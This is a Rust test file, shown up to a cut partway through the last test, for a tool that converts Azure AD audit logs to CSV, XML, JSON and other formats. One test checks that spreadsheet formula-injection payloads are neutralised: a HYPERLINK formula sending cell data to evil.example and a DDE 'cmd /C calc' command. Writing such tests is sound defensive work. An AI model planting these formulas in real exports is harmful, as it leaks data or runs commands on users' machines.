//! Tests: format. aad-format end to end: every format on hostile fixtures (snapshots, and
//! parsed back field by field with the csv crate and quick-xml's reader), property tests
//! on generated records, bad input, and the pipe.

use std::io::{BufRead, BufReader, Read};

use proptest::prelude::*;
use quick_xml::events::Event;
use serde_json::value::RawValue;

use crate::util::{self, Output, tool};

/// Directory audit records with hostile strings, a Graph page, odd numbers and keys.
const AUDITS: &str = "tests/fixtures/format/audits.ndjson";

/// Ten columns with nested paths, array indexes and renames.
const FIELDS: &str = "id,time=activityDateTime,activityDisplayName,result,resultReason,\
upn=initiatedBy.user.userPrincipalName,app=initiatedBy.app.displayName,\
target=targetResources.1.displayName,new=targetResources.0.modifiedProperties.0.newValue,\
additionalDetails.5.value";

fn fixture() -> Vec<u8> {
    std::fs::read(util::repo_root().join(AUDITS)).expect("fixture")
}

/// Runs aad-format with `args` on `stdin`.
fn format(args: &[&str], stdin: impl Into<Vec<u8>>) -> Output {
    tool("aad-format").args(args).stdin(stdin).run()
}

/// Runs aad-format on the fixture, expecting success and a quiet stderr.
fn format_fixture(args: &[&str]) -> String {
    let out = format(args, fixture());
    out.assert_code(0).assert_quiet();
    out.stdout_text()
}

fn snapshot(name: &str, args: &[&str]) {
    util::assert_snapshot(
        &format!("tests/snapshots/format/{name}"),
        &format_fixture(args),
    );
}

// ---------------------------------------------------------------------------------------
// Snapshots: what users read, for every format.

#[test]
fn json_snapshot() {
    snapshot("audits.json", &["--to", "json"]);
}

#[test]
fn json_pretty_snapshot() {
    snapshot("audits.pretty.json", &["--pretty"]);
}

#[test]
fn ndjson_snapshot() {
    snapshot("audits.ndjson", &["-t", "ndjson"]);
}

#[test]
fn ndjson_fields_snapshot() {
    snapshot("audits.fields.ndjson", &["-t", "ndjson", "-f", FIELDS]);
}

#[test]
fn csv_snapshot() {
    snapshot("audits.csv", &["-t", "csv"]);
}

#[test]
fn csv_fields_snapshot() {
    snapshot("audits.fields.csv", &["-t", "csv", "--fields", FIELDS]);
}

#[test]
fn csv_excel_snapshot() {
    snapshot("audits.excel.csv", &["-t", "csv", "--excel", "-f", FIELDS]);
}

#[test]
fn tsv_snapshot() {
    snapshot(
        "audits.fields.tsv",
        &["-t", "tsv", "-f", FIELDS, "--no-header"],
    );
}

#[test]
fn xml_snapshot() {
    snapshot("audits.xml", &["-t", "xml"]);
}

#[test]
fn xml_fields_snapshot() {
    snapshot(
        "audits.fields.xml",
        &[
            "-t", "xml", "-f", FIELDS, "--root", "audits", "--item", "audit",
        ],
    );
}

#[test]
fn text_snapshot() {
    snapshot("audits.txt", &["-t", "text"]);
}

#[test]
fn table_snapshot() {
    snapshot(
        "audits.table.txt",
        &["-t", "table", "--max-width", "24", "-f", FIELDS],
    );
}

#[test]
fn help_snapshot() {
    let out = tool("aad-format").arg("--help").run();
    out.assert_code(0).assert_quiet();
    util::assert_snapshot("tests/snapshots/format/help.txt", &out.stdout_text());
}

// ---------------------------------------------------------------------------------------
// A JSON value as the test sees it: key order kept, numbers as written.

#[derive(Debug, Clone, PartialEq)]
enum J {
    Null,
    Bool(bool),
    Num(String),
    Str(String),
    Arr(Vec<J>),
    Obj(Vec<(String, J)>),
}

impl J {
    /// Parses JSON text (serde_json checks it), keeping key order and number text.
    fn parse(text: &str) -> J {
        let raw: &RawValue = serde_json::from_str(text).expect("valid JSON");
        J::from_raw(raw.get())
    }

    fn from_raw(json: &str) -> J {
        match json.as_bytes()[0] {
            b'{' => {
                let entries: Entries<'_> = serde_json::from_str(json).unwrap();
                J::Obj(
                    entries
                        .0
                        .into_iter()
                        .map(|(k, v)| (k, J::from_raw(v.get())))
                        .collect(),
                )
            }
            b'[' => {
                let items: Vec<&RawValue> = serde_json::from_str(json).unwrap();
                J::Arr(items.into_iter().map(|v| J::from_raw(v.get())).collect())
            }
            b'"' => J::Str(serde_json::from_str(json).unwrap()),
            b't' => J::Bool(true),
            b'f' => J::Bool(false),
            b'n' => J::Null,
            _ => J::Num(json.to_string()),
        }
    }

    /// Compact JSON text; with `escape`, every non-ASCII character and `/` is written
    /// as an escape, so that byte-exactness is put to the test.
    fn write(&self, escape: bool, out: &mut String) {
        match self {
            J::Null => out.push_str("null"),
            J::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            J::Num(n) => out.push_str(n),
            J::Str(s) => json_string(s, escape, out),
            J::Arr(items) => {
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    item.write(escape, out);
                }
                out.push(']');
            }
            J::Obj(entries) => {
                out.push('{');
                for (i, (key, value)) in entries.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    json_string(key, escape, out);
                    out.push(':');
                    value.write(escape, out);
                }
                out.push('}');
            }
        }
    }

    /// The cell text the documented rules give for a leaf that is not a container.
    fn cell(&self) -> String {
        match self {
            J::Null => String::new(),
            J::Bool(b) => b.to_string(),
            J::Num(n) => n.clone(),
            J::Str(s) => s.clone(),
            J::Arr(_) | J::Obj(_) => unreachable!("containers are compared as JSON"),
        }
    }

    /// The value at a `--fields` path: keys in objects, numbers in arrays.
    fn at(&self, path: &[&str]) -> Option<&J> {
        let Some((step, rest)) = path.split_first() else {
            return Some(self);
        };
        let next = match self {
            J::Obj(entries) => entries
                .iter()
                .rev()
                .find(|(k, _)| k == step)
                .map(|(_, v)| v),
            J::Arr(items) => step.parse::<usize>().ok().and_then(|i| items.get(i)),
            _ => None,
        }?;
        next.at(rest)
    }

    /// The flattened leaves: non-empty objects become dotted paths, all else is a leaf.
    fn leaves<'a>(&'a self, prefix: &mut Vec<String>, out: &mut Vec<(Vec<String>, &'a J)>) {
        match self {
            J::Obj(entries) if !entries.is_empty() => {
                for (key, value) in entries {
                    prefix.push(key.clone());
                    value.leaves(prefix, out);
                    prefix.pop();
                }
            }
            leaf => out.push((prefix.clone(), leaf)),
        }
    }
}

/// An object's entries in order.
struct Entries<'a>(Vec<(String, &'a RawValue)>);

impl<'de: 'a, 'a> serde::Deserialize<'de> for Entries<'a> {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> serde::de::Visitor<'de> for V {
            type Value = Entries<'de>;
            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str("an object")
            }
            fn visit_map<A: serde::de::MapAccess<'de>>(
                self,
                mut m: A,
            ) -> Result<Entries<'de>, A::Error> {
                let mut entries = Vec::new();
                while let Some(entry) = m.next_entry()? {
                    entries.push(entry);
                }
                Ok(Entries(entries))
            }
        }
        d.deserialize_map(V)
    }
}

fn json_string(s: &str, escape: bool, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '/' if escape => out.push_str("\\/"),
            c if (c as u32) < 0x20 || (escape && !c.is_ascii()) => {
                let mut units = [0u16; 2];
                for unit in c.encode_utf16(&mut units) {
                    out.push_str(&format!("\\u{unit:04x}"));
                }
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// The records of NDJSON text: one per line, or the elements of a page line.
fn records_of(text: &str) -> Vec<J> {
    let mut records = Vec::new();
    for line in text.lines().filter(|l| !l.trim().is_empty()) {
        match J::parse(line) {
            J::Obj(entries) if is_page(&entries) => {
                let (_, J::Arr(items)) = entries.iter().find(|(k, _)| k == "value").unwrap() else {
                    unreachable!()
                };
                records.extend(items.iter().cloned());
            }
            record => records.push(record),
        }
    }
    records
}

fn is_page(entries: &[(String, J)]) -> bool {
    entries
        .iter()
        .any(|(k, v)| k == "value" && matches!(v, J::Arr(_)))
        && entries
            .iter()
            .all(|(k, _)| k == "value" || k.starts_with('@'))
}

/// Asserts a cell against the value the documented rules put there.
fn assert_cell(cell: &str, value: Option<&J>, what: &str) {
    match value {
        None => assert_eq!(cell, "", "{what}: missing must be empty"),
        Some(container @ (J::Arr(_) | J::Obj(_))) => {
            assert_eq!(&J::parse(cell), container, "{what}: compact JSON");
        }
        Some(leaf) => assert_eq!(cell, leaf.cell(), "{what}"),
    }
}

/// Reads CSV (or TSV) text into rows of cells.
fn read_csv(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    let mut rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(delimiter)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
        .collect();
    // The reader takes a leading U+FEFF for a byte-order mark; here it is data.
    if let Some(rest) = text.strip_prefix('\u{feff}')
        && !rest.starts_with('\u{feff}')
    {
        rows[0][0].insert(0, '\u{feff}');
    }
    rows
}

/// Checks CSV without --fields: the columns are the flattened keys in first-seen order,
/// and each cell holds the value of its key in its record.
fn assert_csv_matches_flattened(text: &str, records: &[J]) {
    let mut columns: Vec<Vec<String>> = Vec::new();
    let mut flat = Vec::new();
    for record in records {
        let J::Obj(entries) = record else {
            panic!("records are objects")
        };
        let mut leaves = Vec::new();
        for (key, value) in entries {
            value.leaves(&mut vec![key.clone()], &mut leaves);
        }
        for (path, _) in &leaves {
            if !columns.contains(path) {
                columns.push(path.clone());
            }
        }
        flat.push(leaves);
    }
    let rows = read_csv(text, b',');
    if columns.is_empty() {
        assert_eq!(text, "", "no keys, no output");
        return;
    }
    let names: Vec<String> = columns.iter().map(|p| p.join(".")).collect();
    assert_eq!(rows[0], names, "header");
    assert_eq!(rows.len(), records.len() + 1, "one row per record");
    for (r, (row, leaves)) in rows[1..].iter().zip(&flat).enumerate() {
        for (column, cell) in columns.iter().zip(row) {
            let value = leaves
                .iter()
                .rev()
                .find(|(p, _)| p == column)
                .map(|(_, v)| *v);
            assert_cell(
                cell,
                value,
                &format!("record {r}, column {}", column.join(".")),
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// XML read back with quick-xml's reader.

#[derive(Debug, Default)]
struct Node {
    name: String,
    attributes: Vec<(String, String)>,
    text: String,
    children: Vec<Node>,
}

impl Node {
    fn attribute(&self, name: &str) -> Option<&str> {
        self.attributes
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    /// The JSON key this element stands for.
    fn key(&self) -> &str {
        match (self.name.as_str(), self.attribute("name")) {
            ("field", Some(name)) => name,
            (name, _) => name,
        }
    }
}

/// Parses a whole document with every reader check on; panics unless well-formed.
fn parse_xml(text: &str) -> Node {
    let mut reader = quick_xml::Reader::from_str(text);
    reader.config_mut().enable_all_checks(true);
    let mut stack = vec![Node::default()];
    let mut saw_declaration = false;
    loop {
        let event = reader
            .read_event()
            .unwrap_or_else(|e| panic!("not well-formed at {}: {e}", reader.buffer_position()));
        match event {
            Event::Decl(decl) => {
                assert_eq!(&*decl.version().unwrap(), "1.0");
                saw_declaration = true;
            }
            Event::Start(start) => stack.push(element(&start)),
            Event::Empty(start) => stack.last_mut().unwrap().children.push(element(&start)),
            Event::End(_) => {
                let node = stack.pop().unwrap();
                stack.last_mut().expect("balanced").children.push(node);
            }
            Event::Text(text) => stack
                .last_mut()
                .unwrap()
                .text
                .push_str(&text.xml10_content()),
            Event::GeneralRef(reference) => {
                let resolved = match reference.resolve_char_ref().expect("valid reference") {
                    Some(c) => c.to_string(),
                    None => quick_xml::escape::resolve_xml_entity(&reference)
                        .expect("predefined entity")
                        .to_string(),
                };
                stack.last_mut().unwrap().text.push_str(&resolved);
            }
            Event::Eof => break,
            other => panic!("unexpected XML event {other:?}"),
        }
    }
    assert!(saw_declaration, "XML declaration");
    let mut document = stack.pop().unwrap();
    assert!(stack.is_empty(), "unclosed elements");
    assert!(document.text.trim().is_empty(), "text outside the root");
    assert_eq!(document.children.len(), 1, "one root element");
    document.children.pop().unwrap()
}

/// A node for a start tag, with its attribute values unescaped and normalised.
fn element(start: &quick_xml::events::BytesStart<'_>) -> Node {
    let mut node = Node {
        name: start.name().as_ref().to_string(),
        ..Node::default()
    };
    for attribute in start.attributes() {
        let attribute = attribute.expect("valid attribute");
        let value = attribute
            .normalized_value(quick_xml::XmlVersion::Explicit1_0)
            .expect("valid attribute value");
        node.attributes
            .push((attribute.key.as_ref().to_string(), value.into_owned()));
    }
    node
}

/// Text as aad-format writes it in XML: characters XML 1.0 cannot carry as `\uXXXX`.
fn xml_text(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '\t' | '\n' | '\r' => c.to_string(),
            c if (c as u32) < 0x20 || c == '\u{fffe}' || c == '\u{ffff}' => {
                format!("\\u{:04X}", c as u32)
            }
            c => c.to_string(),
        })
        .collect()
}

/// Asserts that `node` is the XML the documented rules give for `value`.
fn assert_xml_value(node: &Node, value: &J, at: &str) {
    match value {
        J::Null => {
            assert_eq!(node.attribute("nil"), Some("true"), "{at}: nil");
            assert!(
                node.children.is_empty() && node.text.is_empty(),
                "{at}: empty"
            );
        }
        J::Bool(_) | J::Num(_) | J::Str(_) => {
            assert!(node.children.is_empty(), "{at}: no children");
            assert_eq!(node.text, xml_text(&value.cell()), "{at}: text");
        }
        J::Arr(items) => {
            assert_eq!(node.children.len(), items.len(), "{at}: items");
            for (i, (child, item)) in node.children.iter().zip(items).enumerate() {
                assert_eq!(child.name, "item", "{at}.{i}");
                assert_xml_value(child, item, &format!("{at}.{i}"));
            }
        }
        J::Obj(entries) => {
            assert_eq!(node.children.len(), entries.len(), "{at}: keys");
            for (child, (key, item)) in node.children.iter().zip(entries) {
                assert_eq!(child.key(), xml_text(key), "{at}: key");
                assert_xml_value(child, item, &format!("{at}.{key}"));
            }
        }
    }
}

fn assert_xml_matches(text: &str, records: &[J]) {
    let root = parse_xml(text);
    assert_eq!(root.name, "records");
    assert_eq!(root.children.len(), records.len(), "one element per record");
    for (i, (node, record)) in root.children.iter().zip(records).enumerate() {
        assert_eq!(node.name, "record");
        assert_xml_value(node, record, &format!("record {i}"));
    }
}

// ---------------------------------------------------------------------------------------
// The fixture, parsed back field by field.

#[test]
fn csv_with_fields_parses_back_to_the_json_values() {
    let records = records_of(&String::from_utf8(fixture()).unwrap());
    let rows = read_csv(&format_fixture(&["-t", "csv", "-f", FIELDS]), b',');
    let columns: Vec<(&str, Vec<&str>)> = FIELDS
        .split(',')
        .map(|item| match item.split_once('=') {
            Some((name, path)) => (name, path.split('.').collect()),
            None => (item, item.split('.').collect()),
        })
        .collect();
    let names: Vec<&str> = columns.iter().map(|(name, _)| *name).collect();
    assert_eq!(rows[0], names);
    assert_eq!(rows.len(), records.len() + 1);
    for (row, record) in rows[1..].iter().zip(&records) {
        for ((name, path), cell) in columns.iter().zip(row) {
            assert_cell(cell, record.at(path), name);
        }
    }
}

#[test]
fn csv_without_fields_parses_back_to_the_flattened_json() {
    let records = records_of(&String::from_utf8(fixture()).unwrap());
    assert_csv_matches_flattened(&format_fixture(&["-t", "csv"]), &records);
}

#[test]
fn tsv_parses_back_like_csv() {
    let csv = read_csv(&format_fixture(&["-t", "csv", "-f", FIELDS]), b',');
    let tsv = read_csv(&format_fixture(&["-t", "tsv", "-f", FIELDS]), b'\t');
    assert_eq!(csv, tsv);
}

#[test]
fn xml_parses_back_to_the_json_values() {
    let records = records_of(&String::from_utf8(fixture()).unwrap());
    assert_xml_matches(&format_fixture(&["-t", "xml"]), &records);
}

#[test]
fn xml_with_fields_has_one_element_per_column() {
    let records = records_of(&String::from_utf8(fixture()).unwrap());
    let root = parse_xml(&format_fixture(&[
        "-t",
        "xml",
        "-f",
        "upn=initiatedBy.user.userPrincipalName,targetResources.0",
    ]));
    for (node, record) in root.children.iter().zip(&records) {
        let names: Vec<&str> = node.children.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["upn", "targetResources.0"]);
        for (child, path) in node.children.iter().zip([
            &["initiatedBy", "user", "userPrincipalName"][..],
            &["targetResources", "0"],
        ]) {
            match record.at(path) {
                Some(value) => assert_xml_value(child, value, &child.name),
                None => assert_eq!(child.attribute("nil"), Some("true")),
            }
        }
    }
}

#[test]
#[allow(clippy::print_stderr, reason = "says that the expat check did not run")]
fn xml_output_satisfies_a_strict_parser_when_python_is_there() {
    let xml = format_fixture(&["-t", "xml"]);
    let check = std::process::Command::new("python3")
        .args([
            "-c",
            "import sys, xml.dom.minidom; xml.dom.minidom.parseString(sys.stdin.buffer.read())",
        ])
        .stdin(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn();
    let Ok(mut child) = check else {
        eprintln!("python3 not found; expat check skipped");
        return;
    };
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), xml.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "expat: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn json_and_ndjson_copy_records_byte_for_byte() {
    let text = String::from_utf8(fixture()).unwrap();
    let mut expected = Vec::new();
    for line in text.lines().filter(|l| !l.is_empty()) {
        if line.contains("\"@odata.context\"") {
            let entries: Entries<'_> = serde_json::from_str(line).unwrap();
            let value = entries.0.iter().find(|(k, _)| k == "value").unwrap().1;
            let items: Vec<&RawValue> = serde_json::from_str(value.get()).unwrap();
            expected.extend(items.iter().map(|v| v.get().to_string()));
        } else {
            expected.push(line.to_string());
        }
    }
    assert_eq!(
        format_fixture(&["-t", "ndjson"]),
        format!("{}\n", expected.join("\n"))
    );
    assert_eq!(
        format_fixture(&["-t", "json"]),
        format!("[\n{}\n]\n", expected.join(",\n"))
    );
    let pretty: serde_json::Value = serde_json::from_str(&format_fixture(&["--pretty"])).unwrap();
    let compact: serde_json::Value = serde_json::from_str(&format_fixture(&[])).unwrap();
    assert_eq!(pretty, compact);
}

#[test]
fn csv_cells_are_those_of_jq_for_the_same_paths() {
    // What `jq -r '[.id, .initiatedBy.user.userPrincipalName, ...] | @csv'` writes for
    // the fixture (pages unwrapped with `.value[]`), read back as cells; recorded with
    // jq 1.6, so the test needs no jq. scripts/bench-format.sh compares live on a large
    // file.
    let jq = read_csv(
        &std::fs::read_to_string(util::repo_root().join("tests/fixtures/format/audits.jq.csv"))
            .unwrap(),
        b',',
    );
    let ours = read_csv(
        &format_fixture(&[
            "-t",
            "csv",
            "--no-header",
            "-f",
            "id,initiatedBy.user.userPrincipalName,initiatedBy.app.displayName,\
             targetResources.0.modifiedProperties.0.newValue,resultReason,\
             additionalDetails.4.value,targetResources.1.displayName,activityDisplayName",
        ]),
        b',',
    );
    assert_eq!(ours, jq);
}

#[test]
fn excel_mode_neutralises_formulas_with_a_quote() {
    let out = format_fixture(&[
        "-t",
        "csv",
        "--excel",
        "-f",
        "activityDisplayName,additionalDetails.1.value,additionalDetails.2.value,additionalDetails.3.value,additionalDetails.4.value,durationInMilliseconds",
    ]);
    assert!(out.starts_with('\u{feff}'));
    assert!(out.ends_with("\r\n"));
    let rows = read_csv(out.strip_prefix('\u{feff}').unwrap(), b',');
    assert_eq!(
        rows[2],
        [
            "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'+1-555-0100",
            "'-2+3",
            "'\tstarts with a tab",
            ""
        ]
    );
    assert_eq!(rows[5][5], "1.50", "numbers are not touched");
}

// ---------------------------------------------------------------------------------------
// Property tests: generated records with any characters, keys and number spellings.

fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::collection::vec(any::<char>(), 0..10).prop_map(|chars| chars.into_iter().collect()),
        prop::sample::select(vec![
            "",
            "=1+1",
            "a,b",
            "\"q\"",
            "<&]]>",
            "line\nbreak",
            "\r",
            "x.y",
            "@odata.type",
            "1st",
            "a:b",
            "\u{0}",
            "\u{ffff}",
            "\u{202e}",
            "😀",
            "item",
            "field",
        ])
        .prop_map(str::to_string),
    ]
}

fn any_value() -> impl Strategy<Value = J> {
    let number = prop_oneof![
        any::<i64>().prop_map(|n| n.to_string()),
        any::<u64>().prop_map(|n| n.to_string()),
        prop::sample::select(vec![
            "1.50",
            "-0",
            "0.0",
            "1e3",
            "2.5E-7",
            "-1.0e+2",
            "123456789012345678901234567890"
        ])
        .prop_map(str::to_string),
    ];
    let leaf = prop_oneof![
        Just(J::Null),
        any::<bool>().prop_map(J::Bool),
        number.prop_map(J::Num),
        any_text().prop_map(J::Str),
    ];
    leaf.prop_recursive(4, 24, 5, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(J::Arr),
            object(inner),
        ]
    })
}

/// An object with distinct keys.
fn object(values: impl Strategy<Value = J>) -> impl Strategy<Value = J> {
    prop::collection::vec((any_text(), values), 0..5).prop_map(|mut entries| {
        let mut seen = std::collections::HashSet::new();
        entries.retain(|(key, _)| seen.insert(key.clone()));
        J::Obj(entries)
    })
}

/// Records and their NDJSON text (some lines with every non-ASCII character escaped).
fn any_records() -> impl Strategy<Value = (Vec<J>, String)> {
    prop::collection::vec((object(any_value()), any::<bool>()), 1..8).prop_map(|records| {
        let mut text = String::new();
        for (record, escape) in &records {
            record.write(*escape, &mut text);
            text.push('\n');
        }
        (records.into_iter().map(|(r, _)| r).collect(), text)
    })
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 24,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn xml_is_well_formed_and_carries_every_value((records, text) in any_records()) {
        let out = format(&["-t", "xml"], text);
        out.assert_code(0);
        assert_xml_matches(&out.stdout_text(), &records);
    }

    #[test]
    fn csv_parses_back_to_the_same_cells((records, text) in any_records()) {
        let out = format(&["-t", "csv"], text);
        out.assert_code(0);
        assert_csv_matches_flattened(&out.stdout_text(), &records);
    }

    #[test]
    fn json_and_ndjson_round_trip_byte_for_byte((_records, text) in any_records()) {
        let out = format(&["-t", "ndjson"], text.clone());
        out.assert_code(0);
        prop_assert_eq!(out.stdout_text(), text.clone());
        let lines: Vec<&str> = text.lines().collect();
        let out = format(&["-t", "json"], text.clone());
        prop_assert_eq!(out.stdout_text(), format!("[\n{}\n]\n", lines.join(",\n")));
        let pretty = format(&["-t", "json", "--pretty"], text.clone()).stdout_text();
        let pretty: serde_json::Value = serde_json::from_str(&pretty).unwrap();
        let input: Vec<serde_json::Value> = lines.iter().map(|l| serde_json::from_str(l).unwrap()).collect();
        prop_assert_eq!(pretty, serde_json::Value::Array(input));
    }
}

// ---------------------------------------------------------------------------------------
// Bad input: a clear error with file, line and column, or correct output; never a crash.

#[test]
fn a_malformed_line_stops_with_status_6_and_its_position() {
    let out = format(
        &["-t", "csv", "-f", "a"],
        "{\"a\":1}\n{\"a\": }\n{\"a\":3}\n",
    );
    out.assert_code(6);
    assert_eq!(
        out.stderr,
        "aad-format: error: <stdin>:2:7: expected value\n"
    );
    assert_eq!(out.stdout_text(), "a\n1\n", "what came before is written");
}

#[test]
fn errors_name_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bad.ndjson");
    std::fs::write(&path, "{\"a\":1}\n\n  [1,2]\n").unwrap();
    let out = tool("aad-format").arg(&path).run();
    out.assert_code(6);
    assert_eq!(
        out.stderr,
        format!(
            "aad-format: error: {}:3:3: expected a record (a JSON object), found an array\n",
            path.display()
        )
    );
    assert_eq!(
        out.stdout_text(),
        "[\n{\"a\":1}\n]\n",
        "the array is closed"
    );
}

#[test]
fn skip_invalid_reports_each_line_counts_them_and_exits_6() {
    let input = "{\"a\":1}\n{\"a\":2,}\nnot json\n\u{feff}{\"a\":3}\n{\"a\":4}\n";
    let out = format(&["-t", "ndjson", "--skip-invalid"], input);
    out.assert_code(6);
    assert_eq!(out.stdout_text(), "{\"a\":1}\n{\"a\":4}\n");
    let lines: Vec<&str> = out.stderr.lines().collect();
    assert_eq!(lines.len(), 4, "{}", out.stderr);
    assert!(
        lines[0].starts_with("aad-format: warning: <stdin>:2:8: "),
        "{}",
        lines[0]
    );
    assert!(
        lines[1].starts_with("aad-format: warning: <stdin>:3:2: expected ident"),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].starts_with("aad-format: warning: <stdin>:4:1: "),
        "{}",
        lines[2]
    );
    assert_eq!(
        lines[3],
        "aad-format: error: skipped 3 invalid lines or records (--skip-invalid); the rest was written"
    );
    let quiet = format(&["-t", "ndjson", "--skip-invalid", "-q"], input);
    assert_eq!(quiet.stderr.lines().count(), 1, "-q keeps only the error");
}

#[test]
fn invalid_utf8_is_an_error_at_its_column() {
    let out = format(
        &["-t", "csv"],
        b"{\"a\":\"ok\"}\n{\"a\":\"\xff\"}\n".to_vec(),
    );
    out.assert_code(6);
    assert_eq!(
        out.stderr,
        "aad-format: error: <stdin>:2:7: invalid UTF-8 (the input must be UTF-8 JSON)\n"
    );
}

#[test]
fn utf16_input_gets_advice() {
    let utf16: Vec<u8> = "\u{feff}{\"a\":1}\n"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let out = format(&[], utf16);
    out.assert_code(6);
    assert!(out.stderr.contains("the input is UTF-16"), "{}", out.stderr);
    assert!(
        out.stderr.contains("iconv -f UTF-16 -t UTF-8"),
        "{}",
        out.stderr
    );
}

#[test]
fn nul_bytes_are_errors_raw_and_data_escaped() {
    let raw = format(&["-t", "csv"], b"{\"a\":\"x\x00y\"}\n".to_vec());
    raw.assert_code(6);
    // serde_json's column for this error is that of the byte before the NUL.
    assert!(
        raw.stderr
            .starts_with("aad-format: error: <stdin>:1:7: control character"),
        "{}",
        raw.stderr
    );
    let outside = format(&[], b"{\"a\":1}\x00\n".to_vec());
    outside.assert_code(6);
    assert!(
        outside
            .stderr
            .starts_with("aad-format: error: <stdin>:1:8: "),
        "{}",
        outside.stderr
    );

    let escaped = "{\"a\":\"x\\u0000y\"}\n";
    assert_eq!(format(&["-t", "csv"], escaped).stdout, b"a\nx\0y\n");
    let xml = format(&["-t", "xml"], escaped).stdout_text();
    assert!(xml.contains("<a>x\\u0000y</a>"), "{xml}");
    assert_eq!(
        format(&["-t", "text"], escaped).stdout_text(),
        "a: x\\u{0}y\n"
    );
    assert_eq!(format(&["-t", "ndjson"], escaped).stdout_text(), escaped);
}

#[test]
fn a_byte_order_mark_and_crlf_are_accepted_by_every_format() {
    let input = "\u{feff}{\"a\":\"x\"}\r\n\r\n{\"a\":\"y\"}\r\n";
    for (to, expected) in [
        ("json", "[\n{\"a\":\"x\"},\n{\"a\":\"y\"}\n]\n"),
        ("ndjson", "{\"a\":\"x\"}\n{\"a\":\"y\"}\n"),
        ("csv", "a\nx\ny\n"),
        ("tsv", "a\nx\ny\n"),
        ("text", "a: x\n\na: y\n"),
        ("table", "a\nx\ny\n"),
        (
            "xml",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<records>\n<record><a>x</a></record>\n<record><a>y</a></record>\n</records>\n",
        ),
    ] {
        let out = format(&["-t", to], input);
        out.assert_code(0).assert_quiet();
        assert_eq!(out.stdout_text(), expected, "--to {to}");
    }
    let bad = format(&[], "\u{feff}{\"a\":}\n");
    assert!(
        bad.stderr.contains("<stdin>:1:9: "),
        "columns count the mark: {}",
        bad.stderr
    );
}

#[test]
fn empty_input_gives_a_complete_document() {
    for (args, expected) in [
        (&["-t", "json"][..], "[]\n"),
        (&["-t", "json", "--pretty"], "[]\n"),
        (&["-t", "ndjson"], ""),
        (&["-t", "csv"], ""),
        (&["-t", "csv", "-f", "a,b"], "a,b\n"),
        (&["-t", "tsv", "-f", "a,b"], "a\tb\n"),
        (&["-t", "text"], ""),
        (&["-t", "table"], ""),
        (
            &["-t", "xml", "--root", "audits"],
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<audits>\n</audits>\n",
        ),
    ] {
        for input in ["", "\n\n  \n"] {
            let out = format(args, input);
            out.assert_code(0).assert_quiet();
            assert_eq!(out.stdout_text(), expected, "{args:?} on {input:?}");
        }
    }
}

/// A 50 MB record on one line.
fn long_line() -> String {
    format!("{{\"id\":\"x\",\"blob\":\"{}\"}}\n", "ab".repeat(25 << 20))
}

#[test]
fn a_50_mb_line_is_refused_by_default_and_the_rest_goes_on() {
    let input = format!("{{\"id\":\"a\"}}\n{}{{\"id\":\"b\"}}\n", long_line());
    let out = format(&["-t", "csv", "-f", "id"], input.clone());
    out.assert_code(6);
    assert_eq!(
        out.stderr,
        "aad-format: error: <stdin>:2:1: line longer than 16777216 bytes (--max-line raises the limit)\n"
    );
    let skipped = format(&["-t", "csv", "-f", "id", "--skip-invalid", "-q"], input);
    skipped.assert_code(6);
    assert_eq!(skipped.stdout_text(), "id\na\nb\n");
}

#[test]
fn a_50_mb_line_passes_with_a_higher_limit() {
    let input = long_line();
    let out = format(&["-t", "ndjson", "--max-line", "64M"], input.clone());
    out.assert_code(0).assert_quiet();
    assert!(out.stdout == input.as_bytes(), "byte for byte");
    let out = format(&["-t", "csv", "-f", "id", "--max-line", "64M"], input);
    out.assert_code(0).assert_quiet();
    assert_eq!(out.stdout_text(), "id\nx\n");
}

#[test]
fn ten_thousand_levels_of_nesting_never_crash() {
    let depth = 10_000;
    let arrays = format!(
        "{{\"id\":1,\"a\":{}{}}}\n",
        "[".repeat(depth),
        "]".repeat(depth)
    );
    let objects = format!(
        "{{\"id\":1,\"a\":{}0{}}}\n",
        "{\"b\":".repeat(depth),
        "}".repeat(depth)
    );
    for input in [&arrays, &objects] {
        // Pass-through and --fields off the deep path accept any depth.
        assert_eq!(
            format(&["-t", "ndjson"], input.as_str()).stdout_text(),
            *input
        );
        let fields = format(&["-t", "csv", "-f", "id"], input.as_str());
        fields.assert_code(0);
        assert_eq!(fields.stdout_text(), "id\n1\n");
        // Walking the nesting is refused with a clear error, not a stack overflow.
        let xml = format(&["-t", "xml"], input.as_str());
        xml.assert_code(6);
        assert!(
            xml.stderr.contains("nested more than 128 levels deep"),
            "{}",
            xml.stderr
        );
        // A path into the nesting takes what is there as one compact JSON cell.
